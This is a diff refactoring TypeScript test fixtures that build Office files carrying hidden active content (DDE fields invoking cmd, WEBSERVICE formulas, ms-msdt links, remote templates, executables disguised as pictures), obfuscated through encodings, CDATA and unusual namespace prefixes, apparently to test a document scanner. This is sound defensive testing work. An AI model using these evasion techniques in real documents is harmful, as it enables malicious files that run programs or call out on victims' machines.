@@ -1,18 +1,21 @@
-import { excelNamespace, wordNamespace } from '#tests/support/files/office-files.ts';
+import { excelNamespace, type OfficeParts, wordNamespace } from '#tests/support/files/office-files.ts';
 import {
   both,
   field,
+  format,
   formula,
   type OfficeKind,
   type OfficeTrick,
   officeFile,
   override,
   packageNamespace,
+  placed,
   relation,
   relationshipNamespace,
   relations,
   sheet,
   word,
+  withPart,
   wordPart,
 } from './office-trick.ts';
 
@@ -23,33 +26,33 @@ const ddeLink = (prefix: string) =>
 const ddeWith = (prefix: string) =>
   wordPart(dde).replaceAll('w:', `${prefix}:`).replace(`xmlns:w=`, `xmlns:${prefix}=`);
 /** Elements that run a program, for each kind of file, with this XML prefix. */
-const running = (kind: OfficeKind, prefix = 'w') => (kind === 'docx' ? ddeWith(prefix) : ddeLink(prefix));
+const running = (kind: OfficeKind, prefix = 'w'): string => (kind === 'docx' ? ddeWith(prefix) : ddeLink(prefix));
 const contentTypeFor = (kind: OfficeKind) =>
-  kind === 'docx'
-    ? 'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml'
-    : 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml';
+  kind === 'docx' ? `${format}.wordprocessingml.footer+xml` : `${format}.spreadsheetml.externalLink+xml`;
 const remoteTemplate = 'https://example.com/a.dotm';
 const templateWith = (prefix: string) =>
   `${xml}<${prefix}:Relationships xmlns:${prefix}="${packageNamespace}"><${prefix}:Relationship Id="r1" Type="${relationshipNamespace}/attachedTemplate" Target="${remoteTemplate}" TargetMode="External"/></${prefix}:Relationships>`;
 
 const named = (ending: string): OfficeTrick =>
-  both(`a part named ${ending} that is XML by its content type`, 'unknown', (kind, { folder }) => ({
-    parts: { [`${folder}/media/image1.${ending}`]: xml + running(kind) },
-    types: override(`${folder}/media/image1.${ending}`, contentTypeFor(kind)),
-  }));
+  placed(
+    `a part named ${ending} that is XML by its content type`,
+    'unknown',
+    `media/image1.${ending}`,
+    (kind) => xml + running(kind),
+    (part, kind) => override(part, contentTypeFor(kind)),
+  );
 const content = (ending: string, type: string): OfficeTrick =>
-  both(`a part named ${ending} that is XML by its first bytes`, 'unknown', (kind, { folder }) => ({
-    parts: { [`${folder}/media/picture.${ending}`]: `\n ${running(kind)}` },
-    types: override(`${folder}/media/picture.${ending}`, type),
-  }));
+  placed(
+    `a part named ${ending} that is XML by its first bytes`,
+    'unknown',
+    `media/picture.${ending}`,
+    (kind) => `\n ${running(kind)}`,
+    (part) => override(part, type),
+  );
 const encoded = (name: string, encode: (text: string) => Uint8Array, declared = '', fault = 'remote'): OfficeTrick =>
-  both(name, fault, (kind, { folder }) => ({
-    parts: { [`${folder}/other.xml`]: encode(declared + running(kind)) },
-  }));
+  placed(name, fault, 'other.xml', (kind) => encode(declared + running(kind)));
 const prefixed = (name: string, prefix: string): readonly OfficeTrick[] => [
-  both(`${name} before what runs a program`, 'remote', (kind, { folder }) => ({
-    parts: { [`${folder}/other.xml`]: running(kind, prefix) },
-  })),
+  placed(`${name} before what runs a program`, 'remote', 'other.xml', (kind) => running(kind, prefix)),
   both(`${name} before a remote template`, 'remote', (_kind, { rels }) => ({
     parts: { [rels]: templateWith(prefix) },
   })),
@@ -57,19 +60,25 @@ const prefixed = (name: string, prefix: string): readonly OfficeTrick[] => [
 const bigEndian = (text: string) => Buffer.from(text, 'utf16le').swap16();
 const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
 const drawn = (name: string, fault: string, inside: string): OfficeTrick =>
-  both(name, fault, (_kind, { folder }) => ({
-    parts: { [`${folder}/media/image1.svg`]: svg(inside) },
-    types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
-  }));
+  placed(name, fault, 'media/image1.svg', svg(inside), '<Default Extension="svg" ContentType="image/svg+xml"/>');
 const vml = (name: string, inside: string): OfficeTrick =>
-  both(name, 'remote', (_kind, { folder }) => ({
-    parts: {
-      [`${folder}/drawings/vmlDrawing1.vml`]: `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">${inside}</xml>`,
-    },
-    types: '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>',
-  }));
-const item = (name: string, fault: string, text: string): OfficeTrick =>
-  both(name, fault, () => ({ parts: { 'customXml/item1.xml': text } }));
+  placed(
+    name,
+    'remote',
+    'drawings/vmlDrawing1.vml',
+    `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">${inside}</xml>`,
+    '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>',
+  );
+const item = (name: string, fault: string, text: string, path = 'customXml/item1.xml'): OfficeTrick =>
+  both(name, fault, () => withPart(path, text));
+const remote = (name: string, docx: OfficeParts, xlsx?: OfficeParts): OfficeTrick => ({
+  name,
+  fault: 'remote',
+  docx,
+  ...(xlsx && { xlsx }),
+});
+const workbookType = `<Default Extension="xlsx" ContentType="${format}.spreadsheetml.sheet"/>`;
+const documentType = `<Default Extension="docx" ContentType="${format}.wordprocessingml.document"/>`;
 
 /** Content that runs or loads something, hidden from a check that only searches for texts. */
 export const hiddenTricks: readonly OfficeTrick[] = [
@@ -77,46 +86,35 @@ export const hiddenTricks: readonly OfficeTrick[] = [
   content('png', 'image/png'),
   content('jpg', 'image/jpeg'),
   content('emf', 'image/x-emf'),
-  both('settings of a printer that are XML', 'remote', (kind, { folder }) => ({
-    parts: { [`${folder}/printerSettings1.bin`]: running(kind) },
-    types: override(
-      `${folder}/printerSettings1.bin`,
-      'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings',
-    ),
-  })),
-  {
-    name: 'a section of CDATA',
-    fault: 'remote',
-    docx: word(field('<![CDATA[DDE]]>', '<![CDATA[AUTO c:\\\\x]]>')),
-    xlsx: formula('<![CDATA[WEBSERVICE]]>("https://example.com")'),
-  },
-  {
-    name: 'characters by their numbers',
-    fault: 'remote',
-    docx: word(field('D&#x44;E&#65;UTO c:\\\\x')),
-    xlsx: formula('WEB&#83;ERVICE("https://example.com")'),
-  },
+  placed('settings of a printer that are XML', 'remote', 'printerSettings1.bin', running, (part) =>
+    override(part, `${format}.spreadsheetml.printerSettings`),
+  ),
+  remote(
+    'a section of CDATA',
+    word(field('<![CDATA[DDE]]>', '<![CDATA[AUTO c:\\\\x]]>')),
+    formula('<![CDATA[WEBSERVICE]]>("https://example.com")'),
+  ),
+  remote(
+    'characters by their numbers',
+    word(field('D&#x44;E&#65;UTO c:\\\\x')),
+    formula('WEB&#83;ERVICE("https://example.com")'),
+  ),
   ...prefixed('a prefix outside ASCII', 'ж'),
   ...prefixed('a prefix with dashes and points', 'w-1.x'),
   ...prefixed('a prefix outside the first plane', '\u{10400}'),
-  both('the namespace of the whole part', 'remote', (kind, { folder }) => ({
-    parts: {
-      [`${folder}/other.xml`]:
-        kind === 'docx'
-          ? wordPart(dde)
-              .replaceAll(/<(\/?)w:/g, '<$1')
-              .replace('xmlns:w=', 'xmlns=')
-              .replaceAll(/ w:fld/g, ' fld')
-          : `<externalLink xmlns="${excelNamespace}"><ddeLink ddeService="cmd"/></externalLink>`,
-    },
-  })),
-  both('the strict namespace', 'remote', (kind, { folder }) => ({
-    parts: {
-      [`${folder}/other.xml`]: running(kind)
-        .replace(wordNamespace, 'http://purl.oclc.org/ooxml/wordprocessingml/main')
-        .replace(excelNamespace, 'http://purl.oclc.org/ooxml/spreadsheetml/main'),
-    },
-  })),
+  placed('the namespace of the whole part', 'remote', 'other.xml', (kind) =>
+    kind === 'docx'
+      ? wordPart(dde)
+          .replaceAll(/<(\/?)w:/g, '<$1')
+          .replace('xmlns:w=', 'xmlns=')
+          .replaceAll(/ w:fld/g, ' fld')
+      : `<externalLink xmlns="${excelNamespace}"><ddeLink ddeService="cmd"/></externalLink>`,
+  ),
+  placed('the strict namespace', 'remote', 'other.xml', (kind) =>
+    running(kind)
+      .replace(wordNamespace, 'http://purl.oclc.org/ooxml/wordprocessingml/main')
+      .replace(excelNamespace, 'http://purl.oclc.org/ooxml/spreadsheetml/main'),
+  ),
   encoded('UTF-16', (text) => Buffer.from(`\uFEFF${text}`, 'utf16le')),
   encoded('UTF-16 without a mark', (text) => Buffer.from(text, 'utf16le')),
   encoded('UTF-16 in the other order', (text) => bigEndian(`\uFEFF${text}`)),
@@ -157,78 +155,60 @@ export const hiddenTricks: readonly OfficeTrick[] = [
   vml('a fill of a server in VML', '<v:rect><v:fill src="//server/a.png"/></v:rect>'),
   vml('a link that runs a program in VML', '<v:shape href="ms-msdt:/id"/>'),
   vml('a linked object in VML', '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/>'),
-  both('a base of links of a server', 'remote', () => ({
-    parts: {
-      'docProps/app.xml':
-        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\server\\share</HyperlinkBase></Properties>',
-    },
-  })),
-  both('a page that plays a video', 'program', (_kind, { folder }) => ({
-    parts: {
-      [`${folder}/other.xml`]:
-        '<v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://example.com&quot;/&gt;"/>',
-    },
-  })),
-  {
-    name: 'a mail merge',
-    fault: 'remote',
-    docx: {
-      parts: {
-        'word/settings.xml': wordPart(
-          '<w:mailMerge><w:connectString w:val="Provider=MSDASQL"/><w:query w:val="SELECT 1"/></w:mailMerge>',
-          'settings',
-        ),
-      },
-    },
-  },
-  {
-    name: 'what runs a program in the figures of a chart',
-    fault: 'remote',
-    docx: {
-      parts: {
-        'word/embeddings/Microsoft_Excel_Worksheet.xlsx': await officeFile('xlsx', {
-          parts: { 'xl/externalLinks/externalLink1.xml': ddeLink('x') },
-        }),
-      },
-      types:
-        '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
-    },
-    xlsx: {
-      parts: {
-        'xl/embeddings/Microsoft_Word_Document.docx': await officeFile('docx', {
-          parts: { 'word/other.xml': ddeWith('w') },
-        }),
-      },
-      types:
-        '<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>',
-    },
-  },
+  item(
+    'a base of links of a server',
+    'remote',
+    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\server\\share</HyperlinkBase></Properties>',
+    'docProps/app.xml',
+  ),
+  placed(
+    'a page that plays a video',
+    'program',
+    'other.xml',
+    '<v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://example.com&quot;/&gt;"/>',
+  ),
+  remote(
+    'a mail merge',
+    withPart(
+      'word/settings.xml',
+      wordPart(
+        '<w:mailMerge><w:connectString w:val="Provider=MSDASQL"/><w:query w:val="SELECT 1"/></w:mailMerge>',
+        'settings',
+      ),
+    ),
+  ),
+  remote(
+    'what runs a program in the figures of a chart',
+    withPart(
+      'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
+      await officeFile('xlsx', withPart('xl/externalLinks/externalLink1.xml', ddeLink('x'))),
+      workbookType,
+    ),
+    withPart(
+      'xl/embeddings/Microsoft_Word_Document.docx',
+      await officeFile('docx', withPart('word/other.xml', ddeWith('w'))),
+      documentType,
+    ),
+  ),
   {
     name: 'documents inside documents',
     fault: 'object',
-    docx: {
-      parts: {
-        'word/embeddings/a.docx': await officeFile('docx', {
-          parts: { 'word/embeddings/b.docx': await officeFile('docx') },
-          types:
-            '<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>',
-        }),
-      },
-      types:
-        '<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>',
-    },
+    docx: withPart(
+      'word/embeddings/a.docx',
+      await officeFile('docx', withPart('word/embeddings/b.docx', await officeFile('docx'), documentType)),
+      documentType,
+    ),
   },
-  both('a part without a content type', 'unknown', (_kind, { folder }) => ({ parts: { [`${folder}/a.dat`]: 'x' } })),
-  both('a program', 'program', (_kind, { folder }) => ({
-    parts: { [`${folder}/invoice.exe`]: 'MZ' },
-    types: '<Default Extension="exe" ContentType="application/x-msdownload-exe"/>',
-  })),
-  both('a program that is called a picture', 'unknown', (_kind, { folder }) => ({
-    parts: { [`${folder}/media/image1.png`]: 'MZ\x90' },
-  })),
-  both('a picture of PostScript', 'unknown', (_kind, { folder }) => ({
-    parts: { [`${folder}/media/image1.png`]: '%!PS-Adobe-3.0 EPSF-3.0' },
-  })),
+  placed('a part without a content type', 'unknown', 'a.dat', 'x'),
+  placed(
+    'a program',
+    'program',
+    'invoice.exe',
+    'MZ',
+    '<Default Extension="exe" ContentType="application/x-msdownload-exe"/>',
+  ),
+  placed('a program that is called a picture', 'unknown', 'media/image1.png', 'MZ\x90'),
+  placed('a picture of PostScript', 'unknown', 'media/image1.png', '%!PS-Adobe-3.0 EPSF-3.0'),
   both('two content types for one part', 'unreadable', (kind, { main: part }) => ({
     types: override(part, contentTypeFor(kind)),
   })),
@@ -237,10 +217,5 @@ export const hiddenTricks: readonly OfficeTrick[] = [
       [rels]: relations('<!-- <Relationship " -->', relation('image', 'https://example.com/a.png', 'External')),
     },
   })),
-  {
-    name: 'imported text',
-    fault: 'remote',
-    docx: word('<w:altChunk r:id="r1"/>'),
-    xlsx: sheet('<webPr url="https://a"/>'),
-  },
+  remote('imported text', word('<w:altChunk r:id="r1"/>'), sheet('<webPr url="https://a"/>')),
 ];
